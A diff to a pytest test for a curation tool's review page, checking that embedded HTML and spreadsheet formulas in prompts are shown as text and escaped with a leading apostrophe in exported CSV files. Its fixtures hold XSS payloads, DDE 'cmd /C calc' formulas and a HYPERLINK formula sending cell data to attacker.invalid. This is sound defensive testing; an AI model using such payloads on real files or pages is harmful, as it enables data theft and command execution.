@@ -201,13 +201,21 @@ def test_review_cli(copy, tmp_path):
 
 @pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
 def test_review_page_shows_markup_in_prompts_as_text(tmp_path):
-    """A prompt is data: `<script>` and event handlers in it are shown, never run (issue #11)."""
+    """A prompt is data: `<script>` and event handlers in it are shown, never run (issue #11); and cells that a
+    spreadsheet would evaluate (=, +, -, @ first) reach the CSV files, exported or saved from the page, as text
+    (a leading apostrophe) and read back unchanged (issue #38)."""
     from playwright.sync_api import sync_playwright
+
+    from data_curation.review_file import read_decisions
 
     src = tmp_path / "hostile.jsonl"
     attacks = ["Please explain what this page snippet does: <script>window.pwned = 1</script> and why it is risky.",
                'Why would anyone write <img src=x onerror="window.pwned = 2"> inside a product review form?']
-    src.write_text("".join(json.dumps({"id": f"h{i}", "prompt": a}) + "\n" for i, a in enumerate(attacks)))
+    formulas = ['=HYPERLINK("http://attacker.invalid/?q="&A1, "Why is this spreadsheet link dangerous to open?")',
+                "+cmd|' /C calc'!A0 is something I saw in a shared file. What does it do on a work computer?",
+                "-2+3 is how my calculator shows it, but can you explain negative numbers to a ten year old?",
+                "@SUM(1+1)*cmd|' /C calc'!A0 appeared in a report I was sent. Should I be worried about it?"]
+    src.write_text("".join(json.dumps({"id": f"h{i}", "prompt": a}) + "\n" for i, a in enumerate(attacks + formulas)))
     curate(quick_config((str(src),), (), None, None), output=str(tmp_path / "v1"), progress=False)
     export_review(tmp_path / "v1", tmp_path / "review", per_stratum=100)
     with sync_playwright() as p:
@@ -221,8 +229,24 @@ def test_review_page_shows_markup_in_prompts_as_text(tmp_path):
             assert any("<script>window.pwned = 1</script>" in t for t in texts), texts
             assert any('<img src=x onerror="window.pwned = 2">' in t for t in texts), texts
             assert page.locator("#rows img").count() == 0 and page.locator("#rows script").count() == 0
+            assert all(any(f in t for t in texts) for f in formulas), texts  # shown as written
+            first = page.locator("#rows tbody.item").first
+            first.locator('button[data-decision="approve"]').click()
+            first.locator("input.note").fill("=1+1 looks fine")
+            page.keyboard.press("Escape")
+            with page.expect_download() as dl:
+                page.click("#save")
+            dl.value.save_as(tmp_path / "saved.csv")
         finally:
             b.close()
+    for f in (tmp_path / "review" / "review.csv", tmp_path / "saved.csv"):
+        cells = [c for row in csv.reader(open(f, newline="")) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], f  # nothing a spreadsheet evaluates
+        assert sum(c.startswith(("'=", "'+", "'-", "'@")) for c in cells) >= len(formulas), f
+    exported = {r["id"]: r for r in json.loads("[" + ",".join(open(tmp_path / "review" / "review.jsonl")) + "]")}
+    saved = read_decisions(tmp_path / "saved.csv", ("approve", "reject"))
+    assert [r["id"] for r in saved] == list(exported)  # ids read back as exported
+    assert [r["note"] for r in saved if r["note"]] == ["=1+1 looks fine"]  # and the note as typed
 
 
 @pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
